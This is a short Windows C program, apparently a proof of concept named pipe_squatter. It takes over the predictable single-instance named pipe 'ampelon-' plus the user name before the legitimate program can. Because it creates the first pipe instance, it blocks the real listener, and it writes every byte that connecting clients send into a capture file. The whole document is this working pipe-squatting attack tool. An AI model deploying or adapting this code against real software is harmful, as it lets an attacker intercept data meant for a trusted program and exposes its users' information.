/* Plays a program of another user's that made the single-instance pipe first, under the name any
   user can work out: "ampelon-" and the user name. Whatever reaches it is written to the file
   named on the command line. Usage: pipe_squatter.exe FILE */
#include <stdio.h>
#include <stdlib.h>
#include <windows.h>

int main(int argc, char** argv) {
  if (argc != 2) return 2;
  char name[512];
  snprintf(name, sizeof name, "\\\\.\\pipe\\ampelon-%s", getenv("USERNAME"));
  /* One instance, made first: no one else can listen under this name. */
  HANDLE pipe = CreateNamedPipeA(name, PIPE_ACCESS_INBOUND | FILE_FLAG_FIRST_PIPE_INSTANCE,
                                 PIPE_TYPE_BYTE | PIPE_WAIT, 1, 0, 65536, 0, NULL);
  if (pipe == INVALID_HANDLE_VALUE) return 1;
  FILE* received = fopen(argv[1], "wb");
  if (received == NULL) return 1;
  for (;;) {
    if (ConnectNamedPipe(pipe, NULL) || GetLastError() == ERROR_PIPE_CONNECTED) {
      char bytes[4096];
      DWORD count = 0;
      while (ReadFile(pipe, bytes, sizeof bytes, &count, NULL) && count > 0) {
        fwrite(bytes, 1, count, received);
        fflush(received);
      }
    }
    DisconnectNamedPipe(pipe);
  }
}
